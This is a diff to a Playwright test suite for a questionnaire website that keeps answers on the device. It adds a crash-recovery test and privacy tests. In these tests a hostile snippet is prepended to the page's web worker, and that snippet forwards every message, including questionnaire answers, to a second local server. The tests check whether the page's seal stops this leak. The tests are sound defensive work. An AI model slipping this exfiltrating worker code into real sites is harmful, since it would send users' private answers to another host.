@@ -4,8 +4,10 @@ from __future__ import annotations
 
 import json
 import os
+import re
+import signal
 from pathlib import Path
-from urllib.parse import urlsplit
+from urllib.parse import unquote, urlsplit
 
 import hosts
 import pytest
@@ -95,14 +97,19 @@ def test_nothing_is_asked_for_once_answering_and_scoring_go_on(browser):
         assert host.log == before
 
 
-def profile_run(browser, folder, host, *, flags=()):
-    """Answer in a profile on disk, then close it; nothing is saved by the reader."""
+def persistent(browser, folder, flags=()):
+    """Start a browser of its own with a profile on disk."""
     as_root = hasattr(os, "geteuid") and os.geteuid() == 0
-    context = browser.browser_type.launch_persistent_context(
+    return browser.browser_type.launch_persistent_context(
         str(folder),
         executable_path=str(CHROMIUM) if CHROMIUM.exists() else None,
         args=[*FLAGS, *flags, *(["--no-sandbox"] if as_root else [])],
     )
+
+
+def profile_run(browser, folder, host, *, flags=()):
+    """Answer in a profile on disk, then close it; nothing is saved by the reader."""
+    context = persistent(browser, folder, flags)
     page = context.pages[0]
     take(page, host.url, RISING, save=False)
     # The browser writes its session file a few seconds after a change.
@@ -168,6 +175,80 @@ def test_the_browsers_own_log_of_the_network_knows_this_host_alone(browser, tmp_
         others = {name for name in asked if not name.endswith(BROWSERS_OWN)}
         assert others == {urlsplit(host.url).netloc}
         assert "UDP_BYTES_SENT" not in {kinds[event["type"]] for event in data["events"]}
+
+
+def hostile_run(browser, *, from_url):
+    """Answer with a worker that sends every message elsewhere; return what arrived there.
+
+    ``from_url`` takes both walls away: the worker comes from a URL, so that it has no
+    policy, and it took hold of fetch before the seal.
+    """
+    with hosts.serving(SITE) as host, hosts.serving(SITE) as elsewhere:
+        (worker,) = (SITE / "assets" / "pi").glob("worker.*.js")
+        (script,) = (SITE / "assets" / "pi").glob("questionnaire.*.js")
+        leak = (
+            "const fetched = fetch.bind(self); self.addEventListener('message', (event) =>"
+            f" fetched('{elsewhere.url}/?' + encodeURIComponent(JSON.stringify(event.data)))"
+            ".catch(() => {}));\n"
+        )
+        host.replaced[worker.name] = leak.encode() + worker.read_bytes()
+        if from_url:
+            code, changed = re.subn(
+                rb"new Worker\(\w+,",
+                f'new Worker("/assets/pi/{worker.name}",'.encode(),
+                script.read_bytes(),
+            )
+            assert changed == 1
+            host.replaced[script.name] = code
+        context = browser.new_context()
+        take(context.new_page(), host.url, RISING, save=False)
+        context.close()
+        return [unquote(path) for path in elsewhere.log]
+
+
+def test_even_a_hostile_worker_gets_no_answer_out_of_the_page(browser):
+    assert hostile_run(browser, from_url=False) == []
+
+
+def test_the_same_page_leaks_when_its_worker_comes_from_a_url_without_a_seal(browser):
+    assert any("fp-01" in path for path in hostile_run(browser, from_url=True))
+
+
+def test_a_draft_saved_on_the_device_survives_a_crash_of_the_browser(browser, tmp_path):
+    with hosts.serving(SITE) as host:
+        first = persistent(browser, tmp_path)
+        page = first.pages[0]
+        page.goto(f"{host.url}/leader.html")
+        page.get_by_role("radio", name="Short form").check()
+        press(page, "Start")
+        page.locator("input[name='fp-01'][value='2']").check()
+        press(page, "Save on this device")
+        # The browser writes storage to disk a few seconds after a change.
+        page.wait_for_timeout(8000)
+        for process in processes(tmp_path):
+            os.kill(process, signal.SIGKILL)
+        # The lock of the browser that died; a person's browser asks and takes it over.
+        for lock in tmp_path.glob("Singleton*"):
+            lock.unlink()
+        second = persistent(browser, tmp_path)
+        page = second.pages[0]
+        page.goto(f"{host.url}/leader.html")
+        press(page, "Continue the draft saved on this device")
+        expect(page.locator("input[name='fp-01'][value='2']")).to_be_checked(timeout=LOADING)
+        second.close()
+
+
+def processes(profile):
+    """Return the browser's processes that use a profile, by the command lines in /proc."""
+    found = []
+    for entry in Path("/proc").iterdir():
+        try:
+            line = (entry / "cmdline").read_bytes()
+        except OSError:
+            continue
+        if entry.name.isdigit() and f"--user-data-dir={profile}".encode() in line:
+            found.append(int(entry.name))
+    return found
 
 
 @pytest.mark.parametrize("name", sorted(f.name for f in SITE.glob("*.html")))
